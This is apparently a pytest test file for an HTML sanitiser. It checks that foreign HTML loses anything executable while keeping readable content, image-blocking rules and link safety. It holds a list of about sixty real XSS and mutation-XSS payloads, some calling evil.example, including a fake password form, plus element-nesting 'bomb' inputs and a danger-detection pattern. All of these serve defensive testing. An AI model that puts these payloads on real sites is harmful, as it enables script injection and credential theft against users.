"""Foreign HTML: nothing that acts survives, what people read does. Includes mutation-XSS classics."""

import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from graphwright.pages.sanitise import MAX_LENGTH, html_as_text, sanitise, text_as_html

# Every one of these ran a script in some sanitiser or browser once.
HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror\x0b=alert(1)>",
    '<img src="x` `<script>alert(1)</script>"` `>',
    "<svg onload=alert(1)>",
    "<svg><script>alert&#40;1)</script>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "<svg><use href=\"data:image/svg+xml,<svg id='x' onload='alert(1)'/>#x\"></use></svg>",
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    (
        "<math><mtext><table><mglyph><style><!--</style>"
        '<img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">'
    ),
    (
        '<math><mi><table><mi><mglyph><svg><mtext><textarea><path id="</textarea>'
        '<img onerror=alert(1) src=1>">'
    ),
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<template><img src=x onerror=alert(1)></template>",
    '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
    "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
    "<plaintext><script>alert(1)</script>",
    "<title></title><img src=x onerror=alert(1)>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<iframe src=javascript:alert(1)></iframe>",
    "<object data=javascript:alert(1)></object>",
    '<embed src="data:text/html,<script>alert(1)</script>">',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="&#106;&#97;vascript:alert(1)">x</a>',
    '<a href="java\nscript:alert(1)">x</a>',
    '<a href="\x01javascript:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="//evil.example">x</a>',
    '<a href="/auth/sign-out">x</a>',
    "<base href=https://evil.example/>",
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<link rel=stylesheet href="https://evil.example/x.css">',
    "<style>@import 'https://evil.example/x.css'; * {display:none}</style>",
    '<p style="background:url(https://evil.example/t.gif)">x</p>',
    '<p style="background-color:red;background-image:url(//evil.example)">x</p>',
    '<p style="width:expression(alert(1))">x</p>',
    '<p style="position:fixed;top:0;left:0;width:100%;height:100%">x</p>',
    '<p style="color:r\\65 d;-moz-binding:url(x)">x</p>',
    "<form action=https://evil.example><input name=password><button>Sign in</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<input onfocus=alert(1) autofocus>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<body onload=alert(1)>",
    '<div id="root" class="danger" name="x" data-x="y">x</div>',
    '<a href="https://ok.example" onclick=alert(1) target=_self>x</a>',
    "<img src=x srcset='https://evil.example/x 2x' onload=alert(1)>",
    "<picture><source srcset=https://evil.example/x></picture>",
    "<table background=https://evil.example/t.gif><tr><td background=x>y</td></tr></table>",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml-stylesheet href='javascript:alert(1)'?>",
    "<isindex action=javascript:alert(1)>",
    "<a href='https://ok.example' ping=https://evil.example>x</a>",
    "<\x00script>alert(1)</script>",
    '<script\x20type="text/javascript">javascript:alert(1);</script>',
]
TAG = re.compile(r"<(/?)([a-z][a-z0-9]*)((?:\s+[a-z-]+(?:=\"[^\"]*\")?)*)\s*/?>")
ATTRIBUTE = re.compile(r"\s([a-z-]+)(?:=\"([^\"]*)\")?")
REFUSED_TAGS = frozenset(
    "script style svg math iframe object embed form input button textarea select meta link base "
    "template noscript title video audio source picture marquee body isindex".split()
)


def find_danger(html: str) -> list[str]:
    """What in serialised HTML could act: the tests' own reading of it, apart from the sanitiser."""
    found = []
    rest = TAG.sub("", html)
    if "<" in rest:
        found.append(f"a tag that reads oddly: {rest[rest.index('<') :][:40]}")
    for _, tag, attributes in TAG.findall(html):
        if tag in REFUSED_TAGS:
            found.append(tag)
        for name, value in ATTRIBUTE.findall(attributes):
            low = value.lower().replace("&amp;", "&")
            if name.startswith("on") or name in ("id", "class", "name", "srcset", "background"):
                found.append(name)
            if name == "href" and not low.startswith(("https:", "http:", "mailto:", "tel:")):
                found.append(value)
            if name == "src" and not low.startswith("data:image/"):
                found.append(value)
            if name == "style" and re.search(r"url|position|expression|binding|image|\\", low):
                found.append(value)
            if name == "target" and value != "_blank":
                found.append(value)
    return found


def words_of(html: str) -> list[str]:
    """What the HTML is made of, whatever the order of its attributes."""
    return sorted(re.findall(r"[^\s<>]+", html))


def test_the_search_for_danger_finds_planted_danger() -> None:
    for planted in (
        "<script>x</script>",
        '<a onclick="x">',
        '<a href="javascript:x">',
        '<img src="https://evil.example">',
        '<p style="position:fixed">',
        '<p id="x">',
        "<p <b>",
    ):
        assert find_danger(planted), planted


@pytest.mark.parametrize("hostile", HOSTILE)
def test_hostile_html_becomes_harmless(hostile: str) -> None:
    clean = sanitise(hostile).html
    assert find_danger(clean) == []
    # What is clean stays as it is when it is parsed again: nothing mutates into danger.
    assert words_of(sanitise(clean).html) == words_of(clean)


@pytest.mark.parametrize("hostile", HOSTILE)
def test_hostile_html_inside_other_html_becomes_harmless(hostile: str) -> None:
    wrapped = f'<table><tr><td><p title="a">{hostile}</td></tr></table><b>{hostile}'
    assert find_danger(sanitise(wrapped, remote_images=False).html) == []


@settings(max_examples=200)
@given(st.lists(st.sampled_from([*HOSTILE, "<p>", "</p>", "<b", ">", '"', "'", "-->", "]]>"])))
def test_no_mixture_of_hostile_pieces_is_dangerous(pieces: list[str]) -> None:
    assert find_danger(sanitise("".join(pieces)).html) == []


def test_what_people_read_stays() -> None:
    html = (
        '<h1>Hi</h1><p style="color:red">a <b>bold</b> <i>word</i><br>next</p>'
        '<ul><li>one</li></ul><table border="1"><tbody><tr><td colspan="2">x</td></tr></tbody>'
        "</table><blockquote>said</blockquote>"
    )
    assert sanitise(html).html == html


def test_links_open_apart_and_tell_nobody() -> None:
    clean = sanitise('<a href="https://ok.example/?a=1&amp;b=2">x</a>').html
    assert 'href="https://ok.example/?a=1&amp;b=2"' in clean
    assert 'target="_blank"' in clean
    assert 'rel="noopener noreferrer"' in clean


def test_remote_images_wait_until_they_are_asked_for() -> None:
    html = (
        '<img src="https://t.example/pixel.gif" alt="A"><img src="http://t.example/b.png">'
        '<img src="cid:part1"><img src="data:image/png;base64,AAAA">'
        '<img src="data:image/svg+xml;base64,AAAA"><img src="//t.example/c.png">'
    )
    blocked = sanitise(html)
    assert "t.example" not in blocked.html
    assert "cid:" not in blocked.html
    assert "svg" not in blocked.html
    assert 'alt="A"' in blocked.html
    assert "data:image/png;base64,AAAA" in blocked.html
    assert blocked.blocked_images == 2
    shown = sanitise(html, remote_images=True)
    assert 'src="https://t.example/pixel.gif"' in shown.html
    assert "http://t.example" not in shown.html
    assert "cid:" not in shown.html
    # One over plain http never shows.
    assert shown.blocked_images == 1


@pytest.mark.parametrize(
    "bomb",
    [
        "<div>" * 100_000,
        "</b><div>" * 50_000,
        "<ul><li>" * 30_000,
        '<font size="1"><p></p>' * 20_000,
        "<div><object></div></object>" * 20_000,
        "<a " * 200_000,
    ],
)
def test_a_bomb_of_nested_elements_is_shown_as_text(bomb: str) -> None:
    clean = sanitise(bomb + "the end<script>alert(1)</script>").html
    assert find_danger(clean) == []


def test_very_long_html_is_cut_and_shown_as_text() -> None:
    clean = sanitise("<p>" + "x" * MAX_LENGTH).html
    assert clean.startswith('<div style="white-space:pre-wrap">')


def test_text_keeps_its_lines_and_is_no_html() -> None:
    assert text_as_html("a <b>\n&") == (
        '<div style="white-space:pre-wrap">a &lt;b&gt;\n&amp;</div>'
    )


@pytest.mark.parametrize(
    ("html", "text"),
    [
        ("<p>a</p><p>b &amp; c</p>", "a b & c"),
        ("<style>x{}</style>a<br>b<script>c</script>", "a b"),
        ("&lt;script&gt;", "<script>"),
        ("", ""),
        ("<p>" + "word " * 500, "word " * 99 + "word…"),
    ],
)
def test_html_in_a_cell_is_one_line_of_text(html: str, text: str) -> None:
    assert html_as_text(html) == text
